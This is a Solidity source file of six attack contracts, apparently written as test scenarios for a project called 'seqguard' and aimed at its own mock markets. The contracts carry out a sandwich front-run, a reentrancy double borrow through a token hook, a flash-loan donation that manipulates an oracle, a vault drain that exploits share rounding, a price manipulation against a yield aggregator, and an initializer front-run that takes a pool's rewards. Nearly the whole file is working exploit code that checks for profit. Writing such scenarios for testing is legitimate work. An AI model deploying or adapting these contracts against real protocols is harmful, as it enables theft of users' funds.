// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

import {IERC20, IFlashBorrower} from "./Interfaces.sol";
import {Pair} from "./Amm.sol";
import {TokenVault} from "./TokenVault.sol";
import {swapThrough} from "./Attackers.sol";
import {HookLending, HookToken, IHookRecipient} from "./Callbacks.sol";
import {BalanceOracleLending, RewardsPool, RoundingVault, YieldAggregator} from "./Markets.sol";

function otherToken(Pair pair, address token) view returns (address) {
    return pair.token0() == token ? pair.token1() : pair.token0();
}

/// @title SandwichBot: buys ahead of a victim's swap and sells right after it.
/// @notice Written for seqguard's scenarios, the pattern of jaredfromsubway.eth and every
/// sandwich bot: `frontRun` buys what the victim is about to buy, moving the price
/// toward the victim's slippage limit; the victim buys higher still; `backRun` sells
/// into the price the victim raised and reverts unless the bot ends up with more.
contract SandwichBot {
    address private immutable owner;
    uint256 private startBalance;

    constructor() {
        owner = msg.sender;
    }

    function frontRun(Pair pair, address tokenIn, uint256 amountIn) external {
        require(msg.sender == owner, "SandwichBot: owner only");
        startBalance = IERC20(tokenIn).balanceOf(address(this));
        swapThrough(pair, tokenIn, amountIn, address(this));
    }

    function backRun(Pair pair, address tokenIn) external {
        require(msg.sender == owner, "SandwichBot: owner only");
        IERC20 bought = IERC20(otherToken(pair, tokenIn));
        swapThrough(pair, address(bought), bought.balanceOf(address(this)), address(this));
        require(IERC20(tokenIn).balanceOf(address(this)) > startBalance, "SandwichBot: no profit");
    }
}

/// @title HookBorrower: borrows a hook token from HookLending and, from the token's hook,
/// borrows a second token against the same collateral.
/// @notice Written for seqguard's scenarios, the Cream Finance AMP pattern (August 2021):
/// the re-entered `borrow` still sees no debt for the first loan. Reverts unless the two
/// loans together are worth more than the collateral left behind.
contract HookBorrower is IHookRecipient {
    HookLending public immutable lending;
    HookToken public immutable hookToken;
    IERC20 public immutable second;
    address private immutable owner;
    bool private inside;

    constructor(HookLending lending_, HookToken hookToken_, IERC20 second_) {
        (lending, hookToken, second, owner) = (lending_, hookToken_, second_, msg.sender);
    }

    function run(uint256 collateral) external {
        require(msg.sender == owner, "HookBorrower: owner only");
        hookToken.registerHook(true);
        IERC20 col = lending.collateral();
        col.approve(address(lending), collateral);
        lending.deposit(collateral);
        inside = true;
        lending.borrow(address(hookToken), _room(address(hookToken)));
        inside = false;
        uint256 a = hookToken.balanceOf(address(this));
        uint256 b = second.balanceOf(address(this));
        uint256 worth = a * lending.priceOf(address(hookToken)) / 1e18 + b * lending.priceOf(address(second)) / 1e18;
        require(worth > collateral, "HookBorrower: no profit");
        require(hookToken.transfer(owner, a));
        require(second.transfer(owner, b));
    }

    /// The first loan has arrived but is not on the books yet: borrow the same room again.
    function tokensReceived(address, address, address, uint256) external {
        if (msg.sender != address(hookToken) || !inside) return;
        inside = false;
        lending.borrow(address(second), _room(address(second)));
    }

    function _room(address token) private view returns (uint256) {
        uint256 value = lending.maxDebt(address(this)) - lending.debtValue(address(this));
        uint256 amount = value * 1e18 / lending.priceOf(token);
        uint256 cash = IERC20(token).balanceOf(address(lending));
        return amount < cash ? amount : cash;
    }
}

/// @title DonationOracleAttack: flash-borrows, donates to the pool BalanceOracleLending
/// prices from, borrows against the inflated price, swaps the donation back out.
/// @notice Written for seqguard's scenarios (the Zunami/ElasticSwap donation pattern).
/// Reverts unless it ends with more of the debt token than its posted collateral was
/// worth at the pool's price before the attack.
contract DonationOracleAttack is IFlashBorrower {
    TokenVault public immutable lender;
    Pair public immutable pair;
    BalanceOracleLending public immutable lending;
    address private immutable owner;
    uint256 private posted;

    constructor(TokenVault lender_, Pair pair_, BalanceOracleLending lending_) {
        (lender, pair, lending, owner) = (lender_, pair_, lending_, msg.sender);
    }

    function run(uint256 loan, uint256 posted_) external {
        require(msg.sender == owner, "DonationOracleAttack: owner only");
        posted = posted_;
        uint256 fairValue = posted_ * lending.price() / 1e18;
        lender.flashLoan(loan, this, "");
        IERC20 debt = lending.debtToken();
        uint256 gained = debt.balanceOf(address(this));
        require(gained > fairValue, "DonationOracleAttack: no profit");
        require(debt.transfer(owner, gained));
    }

    function onFlashLoan(address, uint256 amount, uint256 fee, bytes calldata) external {
        require(msg.sender == address(lender), "DonationOracleAttack: not the lender");
        IERC20 debt = lending.debtToken();
        IERC20 col = lending.collateral();
        // a plain transfer: the pool's balance, and the lending market's price, jump
        require(debt.transfer(address(pair), amount));
        col.approve(address(lending), posted);
        lending.deposit(posted);
        uint256 room = lending.maxDebt(address(this));
        uint256 cash = debt.balanceOf(address(lending));
        lending.borrow(room < cash ? room : cash);
        // the pool counts the donation as swap input: take collateral tokens for it...
        (uint256 r0, uint256 r1) = pair.getReserves();
        bool debtIs0 = pair.token0() == address(debt);
        uint256 out = pair.getAmountOut(amount, debtIs0 ? r0 : r1, debtIs0 ? r1 : r0);
        pair.swap(debtIs0 ? 0 : out, debtIs0 ? out : 0, address(this), "");
        // ...and sell them back for the debt token to repay the loan
        swapThrough(pair, address(col), out, address(this));
        require(debt.transfer(address(lender), amount + fee));
    }
}

/// @title RoundingDrain: withdraws just under one share's worth from RoundingVault, over
/// and over; each call burns zero shares.
/// @notice Written for seqguard's scenarios (the Raft / Wise Lending rounding loop).
/// `seed` is the attacker's earlier first deposit of one wei plus a donation, which
/// made one share worth the donation. Reverts unless the loop took more than the seed.
contract RoundingDrain {
    RoundingVault public immutable vault;
    address private immutable owner;
    uint256 private seeded;

    constructor(RoundingVault vault_) {
        (vault, owner) = (vault_, msg.sender);
    }

    function seed(uint256 shareValue) external {
        require(msg.sender == owner, "RoundingDrain: owner only");
        IERC20 asset = vault.asset();
        asset.approve(address(vault), 1);
        vault.deposit(1);
        require(asset.transfer(address(vault), shareValue - 1));
        seeded = shareValue;
    }

    function run(uint256 rounds) external {
        require(msg.sender == owner, "RoundingDrain: owner only");
        IERC20 asset = vault.asset();
        for (uint256 i = 0; i < rounds; i++) {
            // the most that still rounds down to zero shares
            uint256 take = (vault.totalAssets() - 1) / vault.totalSupply();
            if (take == 0) break;
            vault.withdraw(take);
        }
        uint256 gained = asset.balanceOf(address(this));
        require(gained > seeded, "RoundingDrain: no profit");
        require(asset.transfer(owner, gained));
    }
}

/// @title AggregatorPriceAttack: flash-borrows, deposits into YieldAggregator at a fair
/// share price, pumps the pool its LP position sits in, redeems at the inflated price,
/// unwinds the pump and repays.
/// @notice Written for seqguard's scenarios (the Harvest / Value DeFi / yDAI pattern).
/// Reverts unless something is left after the repayment.
contract AggregatorPriceAttack is IFlashBorrower {
    TokenVault public immutable lender;
    YieldAggregator public immutable aggregator;
    address private immutable owner;
    uint256 private stake;

    constructor(TokenVault lender_, YieldAggregator aggregator_) {
        (lender, aggregator, owner) = (lender_, aggregator_, msg.sender);
    }

    function run(uint256 loan, uint256 stake_) external {
        require(msg.sender == owner, "AggregatorPriceAttack: owner only");
        stake = stake_;
        lender.flashLoan(loan, this, "");
        IERC20 asset = aggregator.asset();
        uint256 left = asset.balanceOf(address(this));
        require(left > 0, "AggregatorPriceAttack: no profit");
        require(asset.transfer(owner, left));
    }

    function onFlashLoan(address, uint256 amount, uint256 fee, bytes calldata) external {
        require(msg.sender == address(lender), "AggregatorPriceAttack: not the lender");
        IERC20 asset = aggregator.asset();
        Pair pool = aggregator.pool();
        asset.approve(address(aggregator), stake);
        uint256 shares = aggregator.deposit(stake);
        // buying the other token swells the pool's asset reserve, and the LP's spot value
        uint256 bought = swapThrough(pool, address(asset), amount - stake, address(this));
        uint256 payable_ = asset.balanceOf(address(aggregator)) * aggregator.totalSupply() / aggregator.totalAssets();
        aggregator.redeem(shares < payable_ ? shares : payable_);
        swapThrough(pool, otherToken(pool, address(asset)), bought, address(this));
        require(asset.transfer(address(lender), amount + fee));
    }
}

/// @title InitFrontRunner: initializes a funded RewardsPool before its team does, as its
/// owner, and recovers the rewards to the attacker.
/// @notice Written for seqguard's scenarios (the Punk Protocol pattern).
contract InitFrontRunner {
    address private immutable owner;

    constructor() {
        owner = msg.sender;
    }

    function run(RewardsPool pool, IERC20 token) external {
        require(msg.sender == owner, "InitFrontRunner: owner only");
        pool.initialize(address(this), token);
        uint256 amount = token.balanceOf(address(pool));
        require(amount > 0, "InitFrontRunner: nothing to take");
        pool.recoverERC20(token, owner, amount);
    }
}
